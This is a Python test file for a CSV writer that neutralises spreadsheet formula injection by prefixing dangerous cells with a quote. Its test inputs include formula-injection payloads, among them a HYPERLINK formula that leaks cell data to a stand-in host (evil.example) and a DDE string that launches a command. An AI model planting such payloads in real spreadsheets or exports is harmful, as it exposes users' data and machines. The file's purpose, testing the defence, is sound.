"""CSV cells that a spreadsheet would run as formulas are neutralised; everything else is kept as is."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest

from outreachpass.integrations.csv_writer import CsvLines, cell, safe_text


@pytest.mark.parametrize(
    "dangerous",
    [
        "=1+1",
        '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
        "+1-555-0100",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "   =cmd|' /C calc'!A0",
        "\uff1d1+1",  # full-width equals sign
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
    ],
)
def test_formula_triggers_are_prefixed_with_a_quote(dangerous):
    assert safe_text(dangerous) == "'" + dangerous
    assert cell(dangerous) == "'" + dangerous


@pytest.mark.parametrize("harmless", ["", "Ada Lovelace", "ada@example.com", "1+1=2", "a=b", " leading space", "'quoted", "€5"])
def test_ordinary_text_is_unchanged(harmless):
    assert safe_text(harmless) == harmless


def test_typed_values_are_written_as_themselves():
    ident = uuid.uuid4()
    assert cell(None) == ""
    assert cell(True) == "true" and cell(False) == "false"
    assert cell(-5) == -5 and cell(2.5) == 2.5  # numbers are not formulas
    assert cell(ident) == str(ident)
    at = datetime(2025, 3, 9, 7, 0, tzinfo=UTC)
    assert cell(at) == "2025-03-09T07:00:00+00:00"
    assert cell(at, tz=ZoneInfo("America/New_York")) == "2025-03-09T03:00:00-04:00"


def test_rows_round_trip_through_a_csv_reader():
    lines = CsvLines()
    text = lines.header(["name", "agent", "count"])
    text += lines.row(['=HYPERLINK("x","y")', 'Mozilla/5.0, "quoted"\nnext line', 3])
    text += lines.row(["@evil", None, 0])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [
        ["name", "agent", "count"],
        ['\'=HYPERLINK("x","y")', 'Mozilla/5.0, "quoted"\nnext line', "3"],
        ["'@evil", "", "0"],
    ]
    assert text.endswith("\r\n")


def test_a_header_is_neutralised_too():
    assert CsvLines().header(["=a", "b"]) == "'=a,b\r\n"
